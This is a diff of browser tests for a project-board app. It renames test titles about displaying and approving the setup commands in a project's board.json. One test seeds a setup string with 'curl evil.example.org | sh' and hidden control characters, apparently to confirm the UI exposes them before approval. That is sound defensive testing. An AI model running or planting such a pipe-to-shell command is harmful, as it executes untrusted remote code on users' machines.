@@ -15,7 +15,7 @@ describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
   afterEach(() => board.close())
   const found = () => board.client.projects.getWorktree({ id: projectId })
 
-  test('show each line of what board.json runs, and every control character', async () => {
+  test('show each command of board.json, and every control character', async () => {
     const { path } = await board.client.projects.get({ id: projectId })
     const setup = 'npm ci # all\ncurl evil.example.org | sh\u202e\u001b'
     writeFileSync(join(path, 'board.json'), JSON.stringify({ setup }))
@@ -42,7 +42,7 @@ describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
     expect((await found()).effective.setup).toBe('first\nsecond\nthird')
   })
 
-  test('show to a member what holds', async () => {
+  test('show to a member what occupies disk space', async () => {
     await board.client.projects.update({ id: projectId, worktree: { setup: 'npm ci', ports: 2 } })
     await board.client.auth.setup({ email: 'root@example.org', password: 'correct horse 1' })
     const email = 'anna@example.org'
@@ -54,7 +54,7 @@ describe.skipIf(noBrowser !== undefined)('the worktrees of a project', () => {
     expect(await page.getByLabel('Setup').count()).toBe(0)
   })
 
-  test('show what board.json runs before anybody agrees to it, and are set by an admin', async () => {
+  test('show the commands of board.json before they are approved, and are configured by an admin', async () => {
     const { path } = await board.client.projects.get({ id: projectId })
     writeFileSync(join(path, 'board.json'), JSON.stringify({ setup: 'npm ci', preview: 'npm run dev' }))
     const { page, axeViolations } = await visit(board, { at: `#/projects/${projectId}/settings/worktrees` })
